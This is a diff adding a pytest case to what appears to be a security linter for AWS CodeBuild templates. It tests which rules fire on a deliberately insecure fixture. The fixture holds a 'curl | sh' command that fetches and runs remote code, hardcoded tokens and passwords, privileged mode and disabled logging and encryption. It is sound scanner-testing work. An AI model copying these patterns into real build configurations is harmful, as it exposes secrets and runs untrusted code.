@@ -9,7 +9,7 @@ import pytest
 
 from guardlint.rulebook import load_rulebook
 from tests.checks.codebuild import CODEBUILD
-from tests.conftest import ROOT, findings_of, lines_of, run_scan
+from tests.conftest import ROOT, findings_of, lines_of, run_scan, write_file
 
 # (rule, fixture directory) -> lines the rule must report there, and nothing else.
 EXPECTED_LINES = {
@@ -107,3 +107,55 @@ def test_catalogue_contract_of_the_codebuild_rows():
     for rule_id, name, severity, category in rows:
         rule = rulebook.get(rule_id)
         assert (rule.name, rule.severity.label, rule.category) == (name, severity, category)
+
+
+_CONDITIONAL_PROJECT = """AWSTemplateFormatVersion: "2010-09-09"
+Parameters:
+  Env: {Type: String}
+Conditions:
+  Never: !Equals [a, b]
+  Maybe: !Equals [!Ref Env, prod]
+Resources:
+  Build:
+    Type: AWS::CodeBuild::Project
+    Condition: COND
+    Properties:
+      Artifacts: {Type: S3, Location: bucket, EncryptionDisabled: true}
+      Environment:
+        Type: LINUX_CONTAINER
+        Image: aws/codebuild/standard:7.0
+        PrivilegedMode: true
+        EnvironmentVariables:
+          - {Name: DB_PASSWORD, Value: "s3cr3t-Pa55w0rd-value"}
+      LogsConfig: {CloudWatchLogs: {Status: DISABLED}}
+      Triggers: {Webhook: true}
+      Source:
+        Type: GITHUB
+        Location: https://ci-bot: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@github.com/example/shop.git
+        BuildSpec: |
+          version: 0.2
+          env:
+            variables:
+              API_TOKEN: "Zq8vT2mK9wLxR4nB7cD1"
+          phases:
+            install:
+              runtime-versions: {nodejs: 14}
+            build:
+              commands:
+                - curl -s https://x.example | sh
+                - curl --insecure https://x.example/data
+"""
+
+
+def test_a_project_never_created_is_judged_only_for_its_secrets(tmp_path):
+    """As in the CFN and ECS packs: a project whose Condition is always false is never
+    deployed, but a secret written in it (or in its inline buildspec) is in the repository all
+    the same (CBD002, CBD008)."""
+    write_file(tmp_path / "never", "template.yaml", _CONDITIONAL_PROJECT.replace("COND", "Never"))
+    never = {f.rule_id for f in run_scan(tmp_path / "never").findings if f.pack == "codebuild"}
+    assert never == {"CBD002", "CBD008"}
+    write_file(tmp_path / "maybe", "template.yaml", _CONDITIONAL_PROJECT.replace("COND", "Maybe"))
+    maybe = {f.rule_id for f in run_scan(tmp_path / "maybe").findings if f.pack == "codebuild"}
+    assert maybe >= {
+        "CBD001", "CBD002", "CBD004", "CBD005", "CBD006", "CBD007", "CBD008", "CBD009", "CBD010",
+    }  # fmt: skip
